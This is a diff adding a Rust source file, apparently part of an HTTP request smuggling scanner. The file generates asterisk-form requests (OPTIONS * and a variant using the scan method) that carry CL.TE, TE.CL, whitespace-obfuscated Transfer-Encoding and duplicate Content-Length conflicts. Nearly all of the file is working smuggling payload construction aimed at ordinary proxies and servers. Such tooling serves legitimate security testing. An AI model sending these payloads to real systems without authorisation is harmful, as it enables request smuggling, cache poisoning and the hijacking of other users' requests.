@@ -0,0 +1,101 @@
+use super::{PayloadIter, RequestParts};
+
+/// Asterisk-form request lines (RFC 9112 §3.2.4); `{method}` is the scan
+/// method. Only `OPTIONS` may use `*`, so the second form probes hops that
+/// accept it on any method.
+const ASTERISK_REQUEST_LINES: [&str; 2] = ["OPTIONS * HTTP/1.1", "{method} * HTTP/1.1"];
+
+/// Name of each [`ASTERISK_REQUEST_LINES`] entry.
+const ASTERISK_REQUEST_LINE_NAMES: [&str; 2] = ["options", "method"];
+
+/// Framing conflicts sent with each asterisk-form request line: the header
+/// lines and the body.
+const ASTERISK_FRAMINGS: [(&str, &str); 6] = [
+    // CL.TE
+    (
+        "Content-Length: 6\r\nTransfer-Encoding: chunked",
+        "0\r\n\r\nG",
+    ),
+    // TE.CL
+    (
+        "Content-Length: 4\r\nTransfer-Encoding: chunked",
+        "1\r\nA\r\n0\r\n\r\n",
+    ),
+    // CL.TE, space before colon
+    (
+        "Content-Length: 6\r\nTransfer-Encoding : chunked",
+        "0\r\n\r\nG",
+    ),
+    // CL.TE, tab after colon
+    (
+        "Content-Length: 6\r\nTransfer-Encoding:\tchunked",
+        "0\r\n\r\nG",
+    ),
+    // CL.CL, back-end waits for the larger length
+    ("Content-Length: 6\r\nContent-Length: 50", "SMUGGL"),
+    // CL.CL, back-end leaves the body as the next request's prefix
+    ("Content-Length: 0\r\nContent-Length: 6", "SMUGGL"),
+];
+
+/// Name of each [`ASTERISK_FRAMINGS`] entry.
+const ASTERISK_FRAMING_NAMES: [&str; 6] = [
+    "cl-te",
+    "te-cl",
+    "cl-te-space-before-colon",
+    "cl-te-tab-after-colon",
+    "cl-cl-6-50",
+    "cl-cl-0-6",
+];
+
+/// Generate asterisk-form (`OPTIONS * HTTP/1.1`) payloads carrying CL/TE
+/// conflicts. A hop that special-cases the asterisk-form target (answering it
+/// itself, or rewriting it) may skip the framing validation it applies to
+/// origin-form requests while the next hop still parses the body.
+pub fn asterisk_payloads(
+    _path: &str,
+    host: &str,
+    method: &str,
+    custom_headers: &[String],
+    cookies: &[String],
+) -> PayloadIter {
+    let parts = RequestParts::new("*", host, method, custom_headers, cookies);
+    PayloadIter::new(
+        ASTERISK_REQUEST_LINES.len() * ASTERISK_FRAMINGS.len(),
+        move |i| {
+            let request_line = ASTERISK_REQUEST_LINES[i / ASTERISK_FRAMINGS.len()]
+                .replace("{method}", &parts.method);
+            let (framing, body) = ASTERISK_FRAMINGS[i % ASTERISK_FRAMINGS.len()];
+            format!(
+                "{}\r\n\
+                 Host: {}\r\n\
+                 Connection: keep-alive\r\n\
+                 {}\
+                 {}\
+                 {}\r\n\
+                 \r\n\
+                 {}",
+                request_line, parts.host, parts.headers, parts.cookies, framing, body
+            )
+        },
+    )
+    .named(|i, _| {
+        format!(
+            "{}/{}",
+            ASTERISK_REQUEST_LINE_NAMES[i / ASTERISK_FRAMINGS.len()],
+            ASTERISK_FRAMING_NAMES[i % ASTERISK_FRAMINGS.len()]
+        )
+    })
+}
+
+/// Eagerly collected [`asterisk_payloads`]
+pub fn get_asterisk_payloads(
+    path: &str,
+    host: &str,
+    method: &str,
+    custom_headers: &[String],
+    cookies: &[String],
+) -> Vec<String> {
+    asterisk_payloads(path, host, method, custom_headers, cookies)
+        .map(|p| p.request)
+        .collect()
+}